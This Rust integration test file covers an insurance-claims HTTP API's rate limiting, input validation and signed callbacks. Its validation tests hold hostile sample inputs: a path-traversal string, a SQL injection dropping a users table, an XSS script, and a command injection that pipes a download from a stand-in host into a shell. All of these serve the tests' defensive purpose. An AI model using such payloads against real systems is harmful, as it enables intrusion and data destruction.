//! Integration tests for the guarded HTTP API
#![allow(clippy::expect_used)]

use std::sync::Arc;

use application::testing::MockClock;
use axum::{Router, extract::Request, middleware::Next, response::Response};
use axum_test::TestServer;
use domain::ClientIdentity;
use infrastructure::AppConfig;
use presentation_http::{create_router, state::AppState};
use secrecy::SecretString;
use serde_json::{Value, json};

const NOW: i64 = 1_700_000_000;
const SECRET: &str = "integration-test-secret-0123456789";

/// Stand-in for an upstream authentication layer
async fn identify_from_header(mut req: Request, next: Next) -> Response {
    let client = req
        .headers()
        .get("x-test-client")
        .and_then(|v| v.to_str().ok())
        .map(ClientIdentity::new);
    if let Some(client) = client {
        req.extensions_mut().insert(client);
    }
    next.run(req).await
}

fn create_state(config: AppConfig, clock: &MockClock) -> AppState {
    AppState::from_config(config, Arc::new(clock.clone())).expect("Failed to build state")
}

fn create_test_server_with(config: AppConfig, clock: &MockClock) -> (TestServer, AppState) {
    let state = create_state(config, clock);
    let router: Router = create_router(state.clone())
        .layer(axum::middleware::from_fn(identify_from_header));
    (
        TestServer::new(router).expect("Failed to create test server"),
        state,
    )
}

fn create_test_server() -> TestServer {
    create_test_server_with(AppConfig::default(), &MockClock::at_unix(NOW)).0
}

fn signed_config() -> AppConfig {
    let mut config = AppConfig::default();
    config.signature.secret = Some(SecretString::from(SECRET));
    config
}

// ============================================================================
// Health endpoints
// ============================================================================

#[tokio::test]
async fn health_endpoint_returns_ok() {
    let server = create_test_server();

    let response = server.get("/health").await;

    response.assert_status_ok();
    let body: Value = response.json();
    assert_eq!(body["status"], "ok");
    assert_eq!(response.header("x-content-type-options"), "nosniff");
}

#[tokio::test]
async fn ready_endpoint_reports_services() {
    let server = create_test_server();

    let response = server.get("/ready").await;

    response.assert_status_ok();
    let body: Value = response.json();
    assert_eq!(body["ready"], true);
    assert_eq!(body["rate_limiting"]["enabled"], true);
    assert_eq!(body["signed_callbacks"], false);
}

#[tokio::test]
async fn health_succeeds_after_rate_limit_rejections() {
    let mut config = AppConfig::default();
    config.security.rate_limit.standard_limit = 2;
    let (server, _) = create_test_server_with(config, &MockClock::at_unix(NOW));

    for _ in 0..10 {
        let _ = server.get("/api/v1/claims/C-1").await;
    }
    server.get("/api/v1/claims/C-1").await.assert_status_too_many_requests();

    for _ in 0..5 {
        server.get("/health").await.assert_status_ok();
        server.get("/ready").await.assert_status_ok();
    }
}

// ============================================================================
// Rate limiting
// ============================================================================

#[tokio::test]
async fn hundred_and_first_request_is_rate_limited() {
    let server = create_test_server();

    for i in 0..100 {
        let response = server
            .get("/api/v1/claims/C-1")
            .add_header("x-test-client", "10.1.1.1")
            .await;
        assert_eq!(response.status_code(), 200, "request {} should pass", i + 1);
    }

    let response = server
        .get("/api/v1/claims/C-1")
        .add_header("x-test-client", "10.1.1.1")
        .await;

    response.assert_status_too_many_requests();
    let body: Value = response.json();
    assert_eq!(body["error"], "rate_limit_exceeded");
    assert!(body["retry_after"].as_u64().expect("retry_after") > 0);
    assert!(response.maybe_header("retry-after").is_some());
}

#[tokio::test]
async fn clients_are_limited_independently() {
    let mut config = AppConfig::default();
    config.security.rate_limit.standard_limit = 3;
    let (server, _) = create_test_server_with(config, &MockClock::at_unix(NOW));

    for _ in 0..3 {
        server
            .get("/api/v1/claims/C-1")
            .add_header("x-test-client", "alice")
            .await
            .assert_status_ok();
    }
    server
        .get("/api/v1/claims/C-1")
        .add_header("x-test-client", "alice")
        .await
        .assert_status_too_many_requests();

    let response = server
        .get("/api/v1/claims/C-1")
        .add_header("x-test-client", "bob")
        .await;
    response.assert_status_ok();
    assert_eq!(response.header("x-ratelimit-remaining"), "2");
}

#[tokio::test]
async fn auth_paths_use_strict_quota() {
    let server = create_test_server();

    for _ in 0..10 {
        server
            .post("/api/v1/auth/session")
            .add_header("x-test-client", "carol")
            .json(&json!({"username": "carol"}))
            .await
            .assert_status_ok();
    }

    let response = server
        .post("/api/v1/auth/session")
        .add_header("x-test-client", "carol")
        .json(&json!({"username": "carol"}))
        .await;
    response.assert_status_too_many_requests();

    // The standard quota is counted separately
    let response = server
        .get("/api/v1/claims/C-1")
        .add_header("x-test-client", "carol")
        .await;
    response.assert_status_ok();
    assert_eq!(response.header("x-ratelimit-limit"), "100");
}

#[tokio::test]
async fn window_reset_restores_quota() {
    let mut config = AppConfig::default();
    config.security.rate_limit.standard_limit = 1;
    config.security.rate_limit.abuse_multiplier = 10.0;
    let clock = MockClock::at_unix(NOW);
    let (server, _) = create_test_server_with(config, &clock);

    server.get("/api/v1/claims/C-1").await.assert_status_ok();
    server
        .get("/api/v1/claims/C-1")
        .await
        .assert_status_too_many_requests();

    clock.advance_secs(61);
    server.get("/api/v1/claims/C-1").await.assert_status_ok();
}

#[tokio::test]
async fn disabled_rate_limiting_never_rejects() {
    let mut config = AppConfig::default();
    config.security.rate_limit.enabled = false;
    config.security.rate_limit.standard_limit = 1;
    let (server, _) = create_test_server_with(config, &MockClock::at_unix(NOW));

    for _ in 0..5 {
        let response = server.get("/api/v1/claims/C-1").await;
        response.assert_status_ok();
        assert!(response.maybe_header("x-ratelimit-limit").is_none());
    }
}

// ============================================================================
// Input validation
// ============================================================================

#[tokio::test]
async fn clean_claim_is_accepted() {
    let server = create_test_server();
    let claim = json!({
        "policy_number": "POL-2024-0042",
        "description": "Rear bumper damaged in parking lot",
        "amount": 1250.50,
        "items": [{"name": "bumper", "cost": 900}]
    });

    let response = server.post("/api/v1/claims").json(&claim).await;

    response.assert_status(axum::http::StatusCode::ACCEPTED);
    let body: Value = response.json();
    assert_eq!(body["status"], "received");
    assert_eq!(body["claim"], claim);
    assert_eq!(response.header("x-frame-options"), "DENY");
}

#[tokio::test]
async fn path_traversal_is_rejected() {
    let server = create_test_server();

    let response = server
        .post("/api/v1/claims")
        .json(&json!({"file_path": "../../../etc/passwd"}))
        .await;

    response.assert_status_bad_request();
    let body: Value = response.json();
    assert_eq!(body["error"], "validation_failed");
    assert_eq!(body["details"][0]["category"], "path_traversal");
    assert_eq!(body["details"][0]["field"], "file_path");
}

#[tokio::test]
async fn sql_injection_is_rejected() {
    let server = create_test_server();

    let response = server
        .post("/api/v1/auth/session")
        .json(&json!({"username": "'; DROP TABLE users; --"}))
        .await;

    response.assert_status_bad_request();
    let body: Value = response.json();
    assert_eq!(body["details"][0]["category"], "sql_injection");
}

#[tokio::test]
async fn nested_xss_reports_field_path() {
    let server = create_test_server();

    let response = server
        .put("/api/v1/claims/C-7")
        .json(&json!({"notes": [{"text": "fine"}, {"text": "<script>alert(1)</script>"}]}))
        .await;

    response.assert_status_bad_request();
    let body: Value = response.json();
    assert_eq!(body["details"][0]["category"], "xss");
    assert_eq!(body["details"][0]["field"], "notes.1.text");
}

#[tokio::test]
async fn oversized_body_is_rejected() {
    let mut config = AppConfig::default();
    config.security.max_body_bytes = 64;
    let (server, _) = create_test_server_with(config, &MockClock::at_unix(NOW));

    let response = server
        .post("/api/v1/claims")
        .json(&json!({"description": "x".repeat(200)}))
        .await;

    response.assert_status(axum::http::StatusCode::PAYLOAD_TOO_LARGE);
    let body: Value = response.json();
    assert_eq!(body["error"], "payload_too_large");
}

#[tokio::test]
async fn sanitized_body_is_forwarded_when_enabled() {
    let mut config = AppConfig::default();
    config.security.forward_sanitized_body = true;
    let (server, _) = create_test_server_with(config, &MockClock::at_unix(NOW));

    let response = server
        .post("/api/v1/claims")
        .json(&json!({"description": "<b>dent</b> <span>rear</span>"}))
        .await;

    response.assert_status(axum::http::StatusCode::ACCEPTED);
    let body: Value = response.json();
    assert_eq!(body["claim"]["description"], "<b>dent</b> rear");
}

// ============================================================================
// Signed callbacks
// ============================================================================

#[tokio::test]
async fn callbacks_are_absent_without_secret() {
    let server = create_test_server();

    let response = server
        .post("/api/v1/callbacks/adjuster")
        .json(&json!({"claim_id": "C-1"}))
        .await;

    response.assert_status_not_found();
}

#[tokio::test]
async fn signed_callback_is_accepted() {
    let (server, state) = create_test_server_with(signed_config(), &MockClock::at_unix(NOW));
    let signer = state.signer.expect("signer configured");
    let body = json!({"claim_id": "C-1", "decision": "approved"}).to_string();
    let signature = signer.sign_request("POST", "/api/v1/callbacks/adjuster", body.as_bytes(), NOW);

    let response = server
        .post("/api/v1/callbacks/adjuster")
        .add_header("content-type", "application/json")
        .add_header("x-signature", signature)
        .add_header("x-timestamp", NOW.to_string())
        .bytes(body.into())
        .await;

    response.assert_status_ok();
    let ack: Value = response.json();
    assert_eq!(ack["source"], "adjuster");
}

#[tokio::test]
async fn unsigned_callback_is_unauthorized() {
    let (server, _) = create_test_server_with(signed_config(), &MockClock::at_unix(NOW));

    let response = server
        .post("/api/v1/callbacks/adjuster")
        .json(&json!({"claim_id": "C-1"}))
        .await;

    response.assert_status_unauthorized();
    let body: Value = response.json();
    assert_eq!(body["error"], "signature_invalid");
}

#[tokio::test]
async fn replayed_callback_is_expired() {
    let clock = MockClock::at_unix(NOW);
    let (server, state) = create_test_server_with(signed_config(), &clock);
    let signer = state.signer.expect("signer configured");
    let body = json!({"claim_id": "C-1"}).to_string();
    let signature = signer.sign_request("POST", "/api/v1/callbacks/adjuster", body.as_bytes(), NOW);

    clock.advance_secs(301);
    let response = server
        .post("/api/v1/callbacks/adjuster")
        .add_header("content-type", "application/json")
        .add_header("x-signature", signature)
        .add_header("x-timestamp", NOW.to_string())
        .bytes(body.into())
        .await;

    response.assert_status_unauthorized();
    let body: Value = response.json();
    assert_eq!(body["error"], "signature_expired");
}

#[tokio::test]
async fn callback_payload_is_still_validated() {
    let (server, state) = create_test_server_with(signed_config(), &MockClock::at_unix(NOW));
    let signer = state.signer.expect("signer configured");
    let body = json!({"note": "$(curl evil.example | sh)"}).to_string();
    let signature = signer.sign_request("POST", "/api/v1/callbacks/adjuster", body.as_bytes(), NOW);

    let response = server
        .post("/api/v1/callbacks/adjuster")
        .add_header("content-type", "application/json")
        .add_header("x-signature", signature)
        .add_header("x-timestamp", NOW.to_string())
        .bytes(body.into())
        .await;

    response.assert_status_bad_request();
    let body: Value = response.json();
    assert_eq!(body["details"][0]["category"], "command_injection");
}
